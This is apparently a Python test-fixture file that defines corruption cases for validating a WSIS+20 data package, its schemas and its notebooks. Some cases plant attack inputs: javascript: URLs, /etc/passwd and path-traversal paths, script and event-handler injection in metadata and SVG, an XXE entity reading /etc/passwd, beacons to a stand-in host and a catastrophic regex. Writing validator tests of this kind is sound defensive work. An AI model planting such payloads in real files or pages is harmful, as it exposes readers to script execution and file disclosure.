add("agreed-degree-of-neither-pass", 3, "The agreed degree is that of neither pass.", ["astana-s15-p26"], True, cell(R, ("astana-s15-p26", "agreed"), degree="mentions"))
add("agreed-theme-of-neither-pass", 3, "The agreed pass has a theme that neither pass gave.", [CO, "astana-s40"], True, insert(CO, "astana-s40", "policy-regulation", "agreed", ""))
add("theme-of-both-not-agreed", 3, "Both passes give a theme and the agreed one does not, without a decision.", [CO, "europe-k3", "ai-emerging"], True, drop(CO, ("europe-k3", "ai-emerging", "agreed")))
add("no-theme-beside-theme", 3, "Pass B codes a message with no-theme and with a theme.", [CO, "global-k6"], True, insert(CO, "global-k6", "no-theme", "B", "It names no technology."))
add("no-theme-without-reason", 3, "no-theme is given without the reason.", [CO, "astana-s66"], True, cell(CO, ("astana-s66", "no-theme", "B"), note=""))
add("trace-to-other-region", 3, "A statement of Astana is traced to a key message of Europe.", [T, "europe-k1"], True, seq(*(insert(T, "europe-k1", "astana-s15", p, "thematic", "Connectivity is the subject of both.") for p in ("A", "B", "agreed"))))
add("trace-turned-round", 3, "Key message and statement changed places in a trace.", [T, "astana-s68"], True, insert(T, "astana-s68", "asia-pacific-k3", "agreed", "direct", "Same object."))
add("relation-of-neither-pass", 3, "The agreed relation is direct where both passes say thematic.", [T, "astana-s60"], True, cell(T, ("asia-pacific-k1", "astana-s60", "agreed"), relation="direct"))
add("example-out-of-the-corpus", 3, "The example of a theme is a unit of the corpus.", [TH, "civil-society", "example"], True, cell(TH, "civil-society", example="Civil society should be given more support."))
add("counter-example-out-of-the-corpus", 3, "The counter-example of a theme is a unit of the corpus.", [TH, "skills", "counter_example"], True, cell(TH, "skills", counter_example="Vulnerable groups should receive more support."))
add("related-to-itself", 3, "A theme is related to itself.", [TH, "environment", "related"], True, cell(TH, "environment", related="innovation-economy;environment"))
add("action-line-not-existing", 3, "A theme names the action line C12; there are eleven.", [TH, "skills", "action_lines"], True, cell(TH, "skills", action_lines="C4;C12"))
add("sdg-not-existing", 3, "A theme names SDG 71, a slip for 17; there are seventeen.", [TH, "cooperation", "sdgs"], True, cell(TH, "cooperation", sdgs="71"))
add("since-a-later-version", 3, "A theme has its form since version 0.6.0, which is not yet out.", [TH, "un-roles", "since"], True, cell(TH, "un-roles", since="0.6.0"))
add("group-in-two-spellings", 3, "“Trust & rules” makes a group of its own, in both entries.", [TH, "cybersecurity", "theme_group"], True, both(TH, "cybersecurity", theme_group="Trust & rules"))
add("exclude-names-no-theme", 3, "The exclude rule sends the coder to a theme that does not exist.", [TH, "connectivity", "exclude", "pricing"], True, cell(TH, "connectivity", exclude=lambda v: v.replace("(affordability)", "(pricing)")))
add("affects-no-field", 3, "A note touches consultations.town, which is no field.", [SN, "dar-es-salaam-spelling", "affects"], True, cell(SN, "dar-es-salaam-spelling", affects="consultations.town"))
add("disagreement-with-itself", 3, "A disagreement compares a document with itself.", [SN, "zero-draft-date", "other_document_id"], True, cell(SN, "zero-draft-date", other_document_id="afnic-wsis20-outcome"))
add("note-quotes-too-long", 3, "A note quotes fourteen words of the record in a row.", [SN, "leading-agency", "description"], True, cell(SN, "leading-agency", description=lambda v: "The record has “the role of the leading UN agency in implementing WSIS outcomes should be reinforced”. " + v))
add("readings-differ-undecided", 3, "The second reading differs from the table, and no decision says why.", [SR, "milestones", "review-facilitators"], True, cell(SR, (MS, "review-facilitators", "actual_start"), value="2025-04-24"))
add("decision-without-difference", 3, "A decision explains a difference that is not there.", [SR, "regions", "europe"], True, cell(SR, ("regions", "europe", "un_commission"), decision="The table follows the report."))
add("second-reading-without-place", 3, "A second reading does not say where it was read.", [SR, "kyoto-2023", "city"], True, cell(SR, (C, "kyoto-2023", "city"), place=""))


# ================================================================ class 4: the descriptor

J = "datapackage.json"
add("dp-trailing-comma", 4, "A comma stands before a closing bracket: no JSON.", J, False, sub(DP, ('"digital inclusion"\n', '"digital inclusion",\n')))
add("dp-comment", 4, "A // comment stands in the JSON, as editors of settings allow it.", J, False, sub(DP, ('"version": "1.0.0",', '"version": "1.0.0", // next: 1.1')))
add("dp-byte-order-mark", 4, "The descriptor was saved with a byte order mark, which JSON forbids.", J, False, bts(DP, lambda b: b"\xef\xbb\xbf" + b))
add("dp-truncated", 4, "The descriptor breaks off in the middle.", J, False, bts(DP, lambda b: b[: len(b) // 2]))
add("dp-empty", 4, "The descriptor is empty.", J, False, bts(DP, lambda b: b""))
add("dp-array-at-top", 4, "The descriptor is wrapped in an array.", J, False, dp(lambda d: [d]))
add("dp-conflict-markers", 4, "A merge left its markers around the version.", J, False, sub(DP, ('  "version": "1.0.0",\n', '<<<<<<< HEAD\n  "version": "1.0.0",\n=======\n  "version": "1.0.1",\n>>>>>>> fix\n')))
add("dp-smart-quotes", 4, "A word processor made curly quotation marks of straight ones.", J, False, sub(DP, ('"keywords": [', '“keywords”: [')))
add("dp-key-twice", 4, "The key version stands twice with two values: which one counts depends on the reader.", [J, "version"], False, sub(DP, ('  "version": "1.0.0",\n', '  "version": "0.4.0",\n  "version": "1.0.0",\n')))
add("dp-key-twice-escaped", 4, "The key hash of a resource stands twice, once written with an escape, with two values.", [J, "regions", "hash"], False, bts(DP, lambda b: b[: (at := b.index(b'"hash"', b.index(b'"name": "regions"')))] + b'"h\\u0061sh": "sha256:' + b"0" * 64 + b'",\n      ' + b[at:]))
add("dp-not-utf8", 4, "The descriptor was saved in Latin-1 after a title with é was added.", J, False, bts(DP, lambda b: b.replace(b"GeoNames, coordinates of cities", b"GeoNames, coordonn\xe9es")))
add("dp-name-with-spaces", 4, "The name of the package has capitals and spaces.", [J, "name"], False, dp(lambda d: d.update(name="WSIS20 What the Regions Said")))
add("dp-name-missing", 4, "The package has no name.", [J, "name"], False, dp(lambda d: d.pop("name") and None))
add("dp-version-not-that-of-citation", 4, "The version is 1.0.1 here and 1.0.0 in CITATION.cff, the changelog and pyproject.toml.", [J, "CITATION.cff", "version"], False, dp(lambda d: d.update(version="1.0.1")))
add("dp-version-not-semantic", 4, "The version is “v0.4”.", [J, "version"], False, dp(lambda d: d.update(version="v0.4")))
add("dp-version-a-number", 4, "The version is the number 0.4.", [J, "version"], False, dp(lambda d: d.update(version=0.4)))
add("dp-licence-names-two", 4, "Name and address of the licence differ: CC-BY-4.0 leads to CC BY-NC 4.0.", [J, "licenses"], False, sub(DP, ("licenses/by/4.0/", "licenses/by-nc/4.0/")))
add("dp-licence-other", 4, "The licence is CC0, while LICENSE-DATA and CITATION.cff say CC BY 4.0.", [J, "licenses", "CC0"], False, dp(lambda d: d.update(licenses=[{"name": "CC0-1.0", "title": "CC0 1.0 Universal", "path": "https://creativecommons.org/publicdomain/zero/1.0/"}])))
add("dp-licence-gone", 4, "The licence is gone: nobody may use the data.", [J, "licenses"], False, dp(lambda d: d.pop("licenses") and None))
add("dp-licence-javascript", 4, "The address of the licence is a script.", [J, "licenses"], False, dp(lambda d: d["licenses"][0].update(path="javascript:window.__pwned=1")))
add("dp-resource-gone", 4, "The resource regions was removed, to which others refer.", [J, "regions"], False, dp(lambda d: d["resources"].remove(resource(d, "regions"))))
add("dp-resource-twice", 4, "A resource stands twice.", [J, "themes"], False, dp(lambda d: d["resources"].append(dict(resource(d, "themes")))))
add("dp-resource-same-file-other-name", 4, "Two resources of different names are the same file.", [J, "persons", "people.csv"], False, dp(lambda d: d["resources"].append(dict(resource(d, "people"), name="persons"))))
add("dp-path-absolute", 4, "The path of a table is /etc/passwd.", [J, "indicators", "/etc/passwd"], False, res("indicators", path="/etc/passwd"))
add("dp-path-upwards", 4, "The path of a table leads out of the package.", [J, "organizations"], False, res("organizations", path="../datapackage/data/organizations.csv"))
add("dp-path-remote", 4, "The path of a table is an address on the network.", [J, "quantities"], False, res("quantities", path="http://127.0.0.1:9/pwned/quantities.csv"))
add("dp-path-backslash", 4, "The path of a table has a backslash, written on Windows.", [J, "traces"], False, res("traces", path="data\\traces.csv"))
add("dp-path-other-table", 4, "The resource passages has the path of exclusions.", [J, "passages"], False, res("passages", path="data/exclusions.csv"))
add("dp-inline-data", 4, "A resource has data in the descriptor beside its path, which the standard forbids.", [J, "regions", "data"], False, res("regions", data=[{"region_id": "atlantis"}]))
add("dp-schema-missing-file", 4, "The schema of a table does not exist under the name given.", [J, "schemas/speaker.json", "people"], False, res("people", schema="schemas/speaker.json"))
add("dp-schema-of-other-table", 4, "The table traces is held to the schema of responses.", [J, "traces", "responses"], False, res("traces", schema="schemas/responses.json"))
add("dp-schema-remote", 4, "A schema is fetched from the network.", [J, "codings"], False, res("codings", schema="https://127.0.0.1:9/pwned/codings.json"))
add("dp-schema-gone", 4, "A table has no schema and is held to nothing.", [J, "second_readings", "schema"], False, dp(lambda d: resource(d, "second_readings").pop("schema") and None))
add("dp-bytes-off-by-one", 4, "The size of a table is off by one.", [J, "milestones", "bytes"], False, res("milestones", bytes=7974))
add("dp-bytes-as-text", 4, "A size is written as text.", [J, "regions", "bytes"], False, res("regions", bytes="962"))
add("dp-hash-of-other-file", 4, "A table has the hash of another table.", [J, "documents", "hash"], False, dp(lambda d: resource(d, "documents").update(hash=resource(d, "regions")["hash"])))
add("dp-hash-without-algorithm", 4, "A hash has no prefix: by the standard it is then MD5.", [J, "provisions", "hash"], False, dp(lambda d: resource(d, "provisions").update(hash=resource(d, "provisions")["hash"][7:])))
add("dp-hash-gone", 4, "A table has no hash, so that any change goes unnoticed.", [J, "observations", "hash"], False, dp(lambda d: resource(d, "observations").pop("hash") and None))
add("dp-hash-cut", 4, "A hash lost its last digit.", [J, "messages", "hash"], False, dp(lambda d: resource(d, "messages").update(hash=resource(d, "messages")["hash"][:-1])))
add("dp-encoding-wrong", 4, "The encoding of a table is given as windows-1252, it is UTF-8.", [J, "source_notes", "encoding"], False, res("source_notes", encoding="windows-1252"))
add("dp-format-wrong", 4, "The format of a table is given as xlsx.", [J, "themes", "format"], False, res("themes", format="xlsx"))
add("dp-mediatype-html", 4, "The media type of a table is text/html: a server would have the browser run what is in it.", [J, "messages", "mediatype"], False, res("messages", mediatype="text/html"))
add("dp-dialect-semicolon", 4, "A dialect says that the cells are separated by semicolons.", [J, "responses", "dialect"], False, res("responses", dialect={"delimiter": ";"}))
add("dp-dialect-no-head", 4, "A dialect says that the file has no head, so that the head is taken for data.", [J, "regions", "dialect"], False, res("regions", dialect={"header": False}))
add("dp-dialect-skips-a-row", 4, "A dialect takes rows that begin with “a” for comments, which drops all of Africa.", [J, "messages", "dialect"], False, res("messages", dialect={"commentChar": "a"}))
add("dp-profile-version-one", 4, "The descriptor claims the profile of version 1, whose rules for missing values and sources it breaks.", [J, "$schema"], False, dp(lambda d: d.update({"$schema": "https://specs.frictionlessdata.io/schemas/data-package.json"})))
add("dp-type-file", 4, "A table is no longer of the type table, and so held to no schema.", [J, "exclusions", "type"], False, res("exclusions", type="file"))
add("dp-contributors-empty", 4, "There is no contributor left to cite.", [J, "contributors"], False, dp(lambda d: d.update(contributors=[])))
add("dp-role-misspelt", 4, "The contributor's role is misspelt by the spell checker.", [J, "contributors", "roles"], False, dp(lambda d: d["contributors"][0].update(roles=["create", "publisher"])))
add("dp-keywords-a-string", 4, "The keywords are one text and no list: each letter is a keyword.", [J, "keywords"], False, dp(lambda d: d.update(keywords="WSIS+20, CSTD, consultations")))
add("dp-source-without-title", 4, "A source has neither title nor address.", [J, "sources"], False, dp(lambda d: d["sources"].append({})))
add("dp-description-with-script", 4, "The description, which the page carries as metadata, ends the script element and begins another.", [J, "description"], False, dp(lambda d: d.update(description=d["description"] + "</script><script>window.__pwned=1</script>")))
add("dp-titles-of-two-swapped", 4, "Two tables have changed titles: People are called Organizations.", [J, "people", "organizations", "title"], False,
    dp(lambda d: (lambda a, b: (a.update(title="Organizations"), b.update(title="People")) and None)(resource(d, "people"), resource(d, "organizations"))))
add("dp-description-not-that-of-schema", 4, "The description of a table says that editions form one series; the schema says the contrary.", [J, "observations", "description"], False, res("observations", description="One row per value of an indicator; values of all editions form one series."))
add("dp-property-misspelt", 4, "A property is misspelt, so that a table has no title.", [J, "codings", "tittle", "title"], False, sub(DP, ('"title": "Codings"', '"tittle": "Codings"')))
add("dp-created-in-the-future", 4, "The package was created in 2062, two digits having changed places.", [J, "created"], False, dp(lambda d: d.update(created="2062-11-22T00:00:00Z")))
add("dp-homoglyph-resource-name", 4, "A Cyrillic letter stands in the name of a resource.", [J, "themes", "th\u0435mes"], False, res("themes", name="th\u0435mes"))
add("dp-title-not-that-of-book", 4, "The title differs from that of the book and CITATION.cff: WSIS+10.", [J, "title"], False, dp(lambda d: d.update(title="WSIS+10: What the Regions Said")))
add("dp-null-path", 4, "A path is null.", [J, "appearances", "path"], False, res("appearances", path=None))


# ================================================================ class 5: the schemas

add("schema-broken-json", 5, "A bracket is missing at the end of a schema.", "regions.json", False, bts(S("regions"), lambda b: b.rstrip()[:-1]))
add("schema-single-quotes", 5, "A schema was printed by Python, with single quotation marks.", "quantities.json", False, bts(S("quantities"), lambda b: repr(json.loads(b)).encode()))
add("schema-conflict-markers", 5, "A merge left its markers in a schema.", "traces.json", False, sub(S("traces"), ('  "title": "Traces",\n', '<<<<<<< HEAD\n  "title": "Traces",\n=======\n  "title": "Trace",\n>>>>>>> x\n')))
add("schema-key-twice", 5, "The type of a field is given twice, integer and string.", ["observations.json", "year"], False, sub(S("observations"), ('"type": "integer",', '"type": "integer",\n      "type": "string",')))
add("schema-required-gone", 5, "messages.paraphrase is no longer required.", ["messages", "paraphrase", "required"], False, fld("messages", "paraphrase", lambda f: f["constraints"].pop("required") and None))
add("schema-required-misspelt", 5, "A constraint is misspelt (requird) and holds nothing.", ["indicators", "requird", "required"], False, sub(S("indicators"), ('"required": true', '"requird": true')))
add("schema-required-as-text", 5, "required is the text \"false\", which is true for many a reader.", ["people", "required"], False, sub(S("people"), ('"required": true', '"required": "false"')))
add("schema-enum-without-category", 5, "The enumeration has a pass C that the categories do not have.", ["codings", "coding_pass"], False, fld("codings", "coding_pass", lambda f: f["constraints"]["enum"].append("C")))
add("schema-category-without-enum", 5, "The categories have a value that the enumeration refuses.", ["provisions", "section"], False, fld("provisions", "section", lambda f: f["categories"].append("Annex")))
add("schema-category-order-changed", 5, "Two categories changed places while the enumeration stayed: figures and tables of the kinds take another order.", ["messages", "kind"], False, fld("messages", "kind", lambda f: f["categories"].insert(0, f["categories"].pop(2))))
add("schema-enum-loses-used-value", 5, "An enumeration lost a value that the table uses.", ["exclusions", "reason", "courtesy"], False, fld("exclusions", "reason", lambda f: (f["constraints"]["enum"].remove("courtesy"), f["categories"].remove("courtesy")) and None))
add("schema-enum-value-twice", 5, "A category stands twice.", ["source_notes", "kind"], False, fld("source_notes", "kind", lambda f: (f["constraints"]["enum"].append("misprint"), f["categories"].append("misprint")) and None))
add("schema-category-undescribed", 5, "A category was added of which the description says nothing, and the data dictionary neither.", ["documents", "kind", "podcast"], False, fld("documents", "kind", lambda f: (f["constraints"]["enum"].append("podcast"), f["categories"].append("podcast")) and None))
add("schema-pattern-open", 5, "The pattern of a country code takes anything.", ["consultations", "country_code", "pattern"], False, con("consultations", "country_code", pattern=".*"))
add("schema-pattern-unanchored-hash", 5, "The pattern of a SHA-256 lost its length: any word of a to f fits.", ["passages", "sha256", "pattern"], False, con("passages", "sha256", pattern="^[0-9a-f]+$"))
add("schema-pattern-invalid", 5, "The pattern of an identifier is no regular expression.", ["themes", "theme_id", "pattern"], False, con("themes", "theme_id", pattern="^[a-z0-9+(-[a-z0-9]+*$"))
add("schema-pattern-catastrophic", 5, "A pattern takes exponential time: a malicious value stops every check.", ["milestones", "milestone_id", "pattern"], False, con("milestones", "milestone_id", pattern="^(([a-z0-9]+)-?)+$"))
add("schema-unique-gone", 5, "An identifier need no longer be unique.", ["source_notes", "note_id", "unique"], False, fld("source_notes", "note_id", lambda f: f["constraints"].pop("unique") and None))
add("schema-unique-key-gone", 5, "That a number is given once in a layer of a consultation is no longer asked.", ["messages", "uniqueKeys"], False, sch("messages", lambda d: d.pop("uniqueKeys") and None))
add("schema-type-loosened", 5, "Offsets are texts: 900 sorts behind 1000.", ["exclusions", "start_offset", "type"], False, fld("exclusions", "start_offset", lambda f: f.update(type="string")))
add("schema-type-unknown", 5, "A field has a type that the standard does not know.", ["regions", "sort_order", "int"], False, fld("regions", "sort_order", lambda f: f.update(type="int")))
add("schema-date-as-datetime", 5, "A date is declared a datetime, which none of the values is.", ["milestones", "planned_start"], False, fld("milestones", "planned_start", lambda f: f.update(type="datetime")))
add("schema-date-format-american", 5, "A date has the format %m/%d/%Y while the values are ISO 8601.", ["documents", "document_date", "format"], False, fld("documents", "document_date", lambda f: f.update(format="%m/%d/%Y")))
add("schema-date-format-any", 5, "A date takes any format: 05/06/2024 would pass and mean two days.", ["consultations", "start_date", "format"], False, fld("consultations", "start_date", lambda f: f.update(format="any")))
add("schema-missing-values-lost", 5, "“not stated” is no missing value any more, but text.", ["appearances", "missingValues"], False, sch("appearances", lambda d: d["missingValues"].pop(1) and None))
add("schema-missing-value-zero", 5, "“0” is a missing value of a table of numbers.", ["observations", "missingValues"], False, sch("observations", lambda d: d["missingValues"].append({"value": "0", "label": "none"})))
add("schema-missing-value-a-category", 5, "“no-theme” is declared missing, so that its codings vanish.", ["codings", "missingValues", "no-theme"], False, sch("codings", lambda d: d["missingValues"].append({"value": "no-theme", "label": "no theme"})))
add("schema-missing-labels-swapped", 5, "The labels of two kinds of missing changed places.", ["provisions", "missingValues"], False, sch("provisions", lambda d: (d["missingValues"][1].update(label="not determined by us"), d["missingValues"][2].update(label="not stated by the source")) and None))
add("schema-field-missing-values-gone", 5, "Without its own missing values, the category “not stated” of the format is missing.", ["consultations", "format", "missingValues"], False, fld("consultations", "format", lambda f: f.pop("missingValues") and None))
add("schema-primary-key-gone", 5, "A table has no primary key.", ["people", "primaryKey"], False, sch("people", lambda d: d.pop("primaryKey") and None))
add("schema-primary-key-shortened", 5, "The pass is no longer in the primary key, so that every code is a duplicate.", ["codings", "primaryKey"], False, sch("codings", lambda d: d.update(primaryKey=["message_id", "theme_id"])))
add("schema-primary-key-of-no-field", 5, "The primary key names a field that is not there.", ["regions", "primaryKey"], False, sch("regions", lambda d: d.update(primaryKey=["id"])))
add("schema-foreign-key-gone", 5, "A foreign key was removed: the document of a provision may be anything.", ["provisions", "foreignKeys", "basis_document_id"], False, sch("provisions", lambda d: d["foreignKeys"].pop() and None))
add("schema-foreign-key-to-other-table", 5, "A foreign key leads to a table that does not hold the keys.", ["quantities", "foreignKeys"], False, sch("quantities", lambda d: d["foreignKeys"][0]["reference"].update(resource="passages")))
add("schema-foreign-key-to-no-table", 5, "A foreign key leads to a resource that does not exist.", ["traces", "statements"], False, sch("traces", lambda d: d["foreignKeys"][1]["reference"].update(resource="statements")))
add("schema-foreign-key-to-non-key", 5, "A foreign key leads to a field that is not the key of its table.", ["exclusions", "foreignKeys"], False, sch("exclusions", lambda d: d["foreignKeys"][0]["reference"].update(fields=["citation_key"])))
add("schema-foreign-key-of-two-to-one", 5, "A foreign key has two fields here and one there.", ["responses", "foreignKeys"], False, sch("responses", lambda d: d["foreignKeys"][0]["fields"].append("provision_id")))
add("schema-field-gone", 5, "A field of the file is not in the schema.", ["organizations", "note"], False, sch("organizations", lambda d: d["fields"].pop() and None))
add("schema-field-too-many", 5, "The schema has a field that the file does not have.", ["indicators", "source"], False, sch("indicators", lambda d: d["fields"].append({"name": "source", "title": "Source", "description": "The source.", "type": "string", "example": "ITU"})))
add("schema-field-twice", 5, "A field stands twice.", ["themes", "label"], False, sch("themes", lambda d: d["fields"].insert(2, dict(d["fields"][1]))))
add("schema-fields-in-other-order", 5, "Two fields of the same type changed places in the schema: start is read as end.", ["passages", "start", "end"], False, sch("passages", lambda d: d["fields"].insert(5, d["fields"].pop(6))))
add("schema-fields-match-subset", 5, "fieldsMatch is partial, so that lost columns pass.", ["messages", "fieldsMatch"], False, sch("messages", lambda d: d.update(fieldsMatch="partial")))
add("schema-description-empty", 5, "A field has no description.", ["appearances", "sequence", "description"], False, fld("appearances", "sequence", lambda f: f.update(description="")))
add("schema-example-against-pattern", 5, "An example breaks the pattern of its own field.", ["consultations", "country_code", "example"], False, fld("consultations", "country_code", lambda f: f.update(example="Kazakhstan")))
add("schema-example-not-in-data", 5, "An example is a value that the table does not hold: a person who did not speak.", ["people", "example", "john-smith"], False, fld("people", "person_id", lambda f: f.update(example="john-smith")))
add("schema-minimum-above-maximum", 5, "The smallest year allowed is above the largest.", ["observations", "year"], False, con("observations", "year", minimum=2030, maximum=2000))
add("schema-length-limit-lifted", 5, "A paraphrase may have 2800 characters: room for the text of a source.", ["messages", "paraphrase", "maxLength"], False, con("messages", "paraphrase", maxLength=2800))
add("schema-latitude-to-180", 5, "A latitude may be 180 degrees.", ["consultations", "latitude", "maximum"], False, con("consultations", "latitude", maximum=180))
add("schema-list-delimiter-comma", 5, "A list is declared to be separated by commas, it is by semicolons.", ["consultations", "organizers", "delimiter"], False, fld("consultations", "organizers", lambda f: f.update(delimiter=",")))
add("schema-decimal-comma", 5, "A number is declared to have a decimal comma: 21.8 is 218 or nothing.", ["observations", "value", "decimalChar"], False, fld("observations", "value", lambda f: f.update(decimalChar=",", groupChar=".")))
add("schema-bare-number-off", 5, "bareNumber is false: 30 percent, 30 and 30x are the same value.", ["quantities", "value_low", "bareNumber"], False, fld("quantities", "value_low", lambda f: f.update(bareNumber=False)))
add("schema-uri-format-gone", 5, "An address need no longer be one.", ["documents", "url", "format"], False, fld("documents", "url", lambda f: f.pop("format") and None))
add("schema-rdf-type-wrong", 5, "Latitude is said to be schema.org's longitude.", ["consultations", "latitude", "propertyUrl"], False, fld("consultations", "latitude", lambda f: f.update(rdfType="https://schema.org/longitude")))
add("schema-rdf-type-script", 5, "The address of a term is a script, and the dictionary links to it.", ["messages", "propertyUrl"], False, fld("messages", "number", lambda f: f.update(rdfType="javascript:window.__pwned=1")))
add("schema-description-false", 5, "A description says that the middle of a month is the 10th to the 19th, which the dates and the other tables contradict.", ["consultations", "date_precision", "milestones"], False, fld("consultations", "date_precision", lambda f: f.update(description=f["description"].replace("middle the 11th to the 20th", "middle the 10th to the 19th"))))
add("schema-profile-unknown", 5, "A schema claims a profile that does not exist.", ["themes", "$schema"], False, sch("themes", lambda d: d.update({"$schema": "https://datapackage.org/profiles/3.0/tableschema.json"})))
add("schema-title-of-other-table", 5, "A schema has the title of another table.", ["passes", "title"], False, sch("passes", lambda d: d.update(title="Provisions")))
add("schema-copied-over", 5, "The schema of codings was saved over that of responses.", ["responses"], False, lambda root: wr(root, S("responses"), rd(root, S("codings"))))


# ================================================================ class 6: notebooks

R1, R2, V3, F4, A6, G7, C8 = (N(x) for x in ("01", "02", "03", "04", "06", "07", "08"))


def clear(data):
    for item in data["cells"]:
        if item["cell_type"] == "code":
            item.update(outputs=[], execution_count=None)


def tagged(tag):
    return lambda item: item["metadata"].setdefault("tags", []).append(tag)


NB = "01-round.ipynb"
add("nb-outputs-cleared", 6, "“Clear all outputs” was used before committing.", "03-voices.ipynb", False, nb("03", clear))
add("nb-one-output-gone", 6, "The output of one cell, a figure, was deleted.", ["05-timetable.ipynb", "timetable-05"], False, nbc("05", "timetable-05", lambda c: c.update(outputs=[])))
add("nb-counts-out-of-order", 6, "Cells were run out of order: the counts are not 1, 2, 3.", ["06-asks.ipynb"], False, nbc("06", "asks-03", lambda c: c.update(execution_count=17)))
add("nb-count-null", 6, "A cell was never run and has outputs.", ["08-certainty.ipynb"], False, nbc("08", "certainty-04", lambda c: c.update(execution_count=None)))
add("nb-glued-number-changed", 6, "A number of the prose was changed by hand in the stored output: one statement more.", [NB, "round.statements"], False, glued("01", "round.statements", lambda said: str(int(said) + 1)))
add("nb-glued-sentence-turned", 6, "A finding was turned into its contrary in the stored output.", ["02-regions.ipynb", "regions.widest"], False, glued("02", "regions.widest", lambda _: "Cybersecurity"))
add("nb-glued-sentence-with-script", 6, "A script was put into a glued sentence.", ["07-ground.ipynb", "ground.gap_where"], False, glued("07", "ground.gap_where", lambda said: f"<script>window.__pwned=1</script>{said}"))
TABLE = "application/vnd.wsis20.table+json"


def outs(change):
    """Change the first output of a cell that has a table."""
    return lambda cell: change(next(o for o in cell["outputs"] if TABLE in o.get("data", {})))


def figure(cell):
    """Return what is said of the figure of a cell."""
    return next(o for o in cell["outputs"] if "wsis20" in o["metadata"])["metadata"]["wsis20"]["figure"]


add("nb-table-changed", 6, "A cell of a table was changed in the form that pages show; HTML and text still have the computed value.", ["08-certainty.ipynb", "certainty-13"], False, nbc("08", "certainty-13", outs(lambda o: o["data"].update({TABLE: json.loads(json.dumps(o["data"][TABLE]).replace("0.92", "0.99"))}))))
add("nb-table-html-changed", 6, "A cell of a table was changed in its HTML form alone.", ["01-round.ipynb", "round-15"], False, mime("01", "round-15", "text/html", ">6<", ">7<"))
add("nb-figure-values-changed", 6, "A value below a figure (its CSV) was changed; the figure shows another.", ["07-ground.ipynb", "ground-07"], False, mime("07", "ground-07", "text/plain", "Covered by 5G,CIS,8.0", "Covered by 5G,CIS,80.0"))
add("nb-svg-with-script", 6, "The SVG of a figure holds a script.", ["04-floor.ipynb", "floor-07"], False, mime("04", "floor-07", "image/svg+xml", "</svg>", "<script>window.__pwned=1</script></svg>"))
add("nb-svg-with-handler", 6, "An element of a figure has an event handler.", ["03-voices.ipynb", "voices-06"], False, mime("03", "voices-06", "image/svg+xml", "<g data-record=", '<g onmouseover="window.__pwned=1" data-record='))
add("nb-svg-loads-image", 6, "A figure loads an image from another host and so tells who reads it.", ["01-round.ipynb", "round-08"], False, mime("01", "round-08", "image/svg+xml", "</svg>", '<image href="http://127.0.0.1:9/pwned" width="1" height="1"/></svg>'))
add("nb-svg-entity", 6, "The DOCTYPE of a figure declares an entity that reads a file.", ["06-asks.ipynb", "asks-10"], False, mime("06", "asks-10", "image/svg+xml", "<svg ", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg '))
add("nb-svg-truncated", 6, "The SVG of a figure is cut off.", ["02-regions.ipynb", "regions-12"], False, mime("02", "regions-12", "image/svg+xml", "</svg>", ""))
add("nb-figure-of-other-cell", 6, "The outputs of two figures changed places.", ["07-ground.ipynb"], False, nb("07", lambda d: (lambda a, b: (lambda x, y: (a.update(outputs=y), b.update(outputs=x)) and None)(a["outputs"], b["outputs"]))(cellof(d, "ground-07"), cellof(d, "ground-09"))))
add("nb-code-changed-not-run", 6, "The code counts another layer, and was not run.", ["06-asks.ipynb"], False, src("06", "asks-03", '"key message"', '"statement"'))
add("nb-code-comment-not-run", 6, "A comment that says something false was added to the code, which the book shows, without a run.", ["05-timetable.ipynb"], False, src("05", "timetable-03", "middle = ", "# all steps were kept\nmiddle = "))
add("nb-assertion-removed", 6, "An assertion was removed from the code, outputs and fingerprint left.", ["05-timetable.ipynb"], False, src("05", "timetable-03", '\nassert (timetable.outcome_of(planned) == planned["outcome"]).all()', ""))
add("nb-number-typed-into-prose", 6, "A number in a text cell is typed and wrong: 15 people spoke.", ["03-voices.ipynb"], False, src("03", "voices-05", "## The people\n", "## The people\n\n15 people spoke in Astana.\n"))
add("nb-glue-reference-misspelt", 6, "A text cell asks for a glued value that does not exist.", ["05-timetable.ipynb", "timetable.table"], False, src("05", "timetable-12", "{value}`timetable.tables`", "{value}`timetable.table`"))
add("nb-message-reference-unknown", 6, "A text cell refers to a message that does not exist.", ["04-floor.ipynb", "asia-pacific-k9"], False, src("04", "floor-11", "asia-pacific-k1", "asia-pacific-k9"))
add("nb-note-reference-unknown", 6, "A text cell refers to a note on the sources that does not exist.", ["05-timetable.ipynb", "progress-report-month"], False, src("05", "timetable-01", "progress-report-year", "progress-report-month"))
add("nb-doc-link-broken", 6, "A text cell links to a chapter that does not exist.", ["02-regions.ipynb", "09-certainty"], False, src("02", "regions-19", "<08-certainty>", "<09-certainty>"))
add("nb-prose-raw-html", 6, "A text cell holds an iframe of another host.", ["07-ground.ipynb"], False, src("07", "ground-11", "## Every edition", '## Every edition\n\n<iframe src="http://127.0.0.1:9/pwned"></iframe>'))
add("nb-fingerprint-gone", 6, "The fingerprint of a run is gone, so that nobody knows whether the notebook is stale.", ["01-round.ipynb", "fingerprint"], False, nb("01", lambda d: d["metadata"]["wsis20"].pop("fingerprint") and None))
add("nb-fingerprint-of-other", 6, "A notebook has the fingerprint of another.", ["03-voices.ipynb", "fingerprint"], False, nb("03", lambda d: d["metadata"]["wsis20"].update(fingerprint="f7e5e1df6b00815d24ef02c9907ca3df5363aae1be6bc1cae2da915e83f8e0ac")))
add("nb-outputs-hash-gone", 6, "The hash of the outputs is gone, and an output with it.", ["08-certainty.ipynb", "outputs"], False, nb("08", lambda d: (d["metadata"]["wsis20"].pop("outputs"), cellof(d, "certainty-03")["outputs"].clear()) and None))
add("nb-metadata-emptied", 6, "A tool that strips metadata before commits emptied those of the notebook.", ["04-floor.ipynb"], False, nb("04", lambda d: d.update(metadata={})))
add("nb-error-stored", 6, "An error is stored as the output of a cell.", ["06-asks.ipynb", "asks-11"], False, nbc("06", "asks-11", lambda c: c["outputs"].append({"ename": "KeyError", "evalue": "'paragraph'", "output_type": "error", "traceback": ["KeyError: 'paragraph'"]})))
add("nb-warning-with-home-path", 6, "A warning with the path of somebody's home is stored as an output.", ["07-ground.ipynb", "ground-03"], False, nbc("07", "ground-03", lambda c: c["outputs"].append({"name": "stderr", "output_type": "stream", "text": ["/home/alice/wsis20/x.py:3: FutureWarning: concat\n"]})))
add("nb-javascript-output", 6, "An output of type application/javascript is stored, which pages run.", ["02-regions.ipynb", "regions-03"], False, nb("02", lambda d: d["cells"][2].setdefault("outputs", []).append({"data": {"application/javascript": "window.__pwned=1"}, "metadata": {}, "output_type": "display_data"})))
